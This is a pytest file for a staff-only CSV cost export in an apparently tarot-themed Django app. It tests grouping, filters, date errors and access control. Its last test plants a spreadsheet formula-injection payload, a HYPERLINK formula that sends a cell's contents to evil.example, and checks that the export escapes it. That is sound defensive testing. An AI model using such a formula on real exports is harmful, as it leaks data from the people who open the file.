"""The CSV export: one grouping of the cost summary per download, staff only."""

import csv
import io

import pytest

from spreads.models import Spread, TaskType
from tests.reports import at, make_call

pytestmark = pytest.mark.django_db

URL = "/reports/costs.csv"
MARCH = {"start": "2025-03-01", "end": "2025-03-03"}
METRICS = [
    "calls",
    "cost",
    "tokens_in",
    "tokens_out",
    "tokens_cache_read",
    "tokens_cache_write",
    "rate_limited",
    "fallbacks",
    "errors",
]


@pytest.fixture
def calls():
    celtic = Spread.objects.get(slug="celtic_cross")
    make_call(at("2025-03-01 09:00"), cost="0.00120000", spread=celtic, input_tokens=1200)
    make_call(at("2025-03-01 10:00"), cost="0.00030000", spread=celtic, output_tokens=40)
    make_call(
        at("2025-03-03 18:00"),
        cost="0.01500000",
        task_type=TaskType.OVERALL_READING,
        model="claude-sonnet-4-5",
    )
    make_call(at("2025-03-04 00:00"), cost="9")  # after the range


def rows_of(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_it_exports_cost_per_day_by_default(staff_client, calls):
    response = staff_client.get(URL, MARCH)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == (
        'attachment; filename="costs-day-2025-03-01-to-2025-03-03.csv"'
    )
    rows = rows_of(response)
    assert rows[0] == ["day", *METRICS]
    assert rows[1][:3] == ["2025-03-01", "2", "0.00150000"]
    assert rows[1][3:5] == ["1200", "40"]
    assert rows[2][:3] == ["2025-03-03", "1", "0.01500000"]
    assert len(rows) == 3


def test_it_exports_by_task_type(staff_client, calls):
    rows = rows_of(staff_client.get(URL, {**MARCH, "group": "task_type"}))

    assert rows[0][0] == "task_type"
    assert [row[:3] for row in rows[1:]] == [
        ["card_interpretation", "2", "0.00150000"],
        ["overall_reading", "1", "0.01500000"],
    ]


def test_it_exports_by_model(staff_client, calls):
    rows = rows_of(staff_client.get(URL, {**MARCH, "group": "model"}))

    assert [row[:3] for row in rows[1:]] == [
        ["claude-haiku-4-5", "2", "0.00150000"],
        ["claude-sonnet-4-5", "1", "0.01500000"],
    ]


def test_it_exports_by_spread_with_an_empty_cell_for_none(staff_client, calls):
    rows = rows_of(staff_client.get(URL, {**MARCH, "group": "spread"}))

    assert rows[0][0] == "spread_slug"
    assert [row[:3] for row in rows[1:]] == [
        ["celtic_cross", "2", "0.00150000"],
        ["", "1", "0.01500000"],
    ]


def test_it_applies_the_filters(staff_client, calls):
    rows = rows_of(staff_client.get(URL, {**MARCH, "group": "model", "spread": "celtic_cross"}))

    assert [row[:3] for row in rows[1:]] == [["claude-haiku-4-5", "2", "0.00150000"]]


def test_it_refuses_an_unknown_grouping(staff_client):
    response = staff_client.get(URL, {**MARCH, "group": "colour"})

    assert response.status_code == 400
    assert "Unknown group 'colour'" in response.content.decode()


def test_it_refuses_bad_dates_with_a_message(staff_client):
    response = staff_client.get(URL, {"start": "2025-03-09", "end": "2025-03-01"})

    assert response.status_code == 400
    assert "after the end date" in response.content.decode()


def test_it_forbids_signed_in_non_staff(client, bob):
    client.force_login(bob)

    assert client.get(URL, MARCH).status_code == 403


def test_it_sends_anonymous_visitors_to_the_admin_login(client):
    response = client.get(URL, MARCH)

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_it_exports_each_day_split_by_task_type(staff_client, calls):
    rows = rows_of(staff_client.get(URL, {**MARCH, "group": "day_task_type"}))

    assert rows[0][:3] == ["day", "task_type", "calls"]
    assert [row[:4] for row in rows[1:]] == [
        ["2025-03-01", "card_interpretation", "2", "0.00150000"],
        ["2025-03-03", "overall_reading", "1", "0.01500000"],
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_it_escapes_names_a_spreadsheet_would_run_as_formulas(staff_client, start):
    # A model name reaches the export as staff typed it (a price override takes any name).
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    make_call(at("2025-03-02 09:00"), cost="0.00100000", model=name)

    rows = rows_of(staff_client.get(URL, {**MARCH, "group": "model"}))

    assert [row[0] for row in rows[1:]] == ["'" + name]
    assert rows[1][2] == "0.00100000"  # numbers are left as numbers
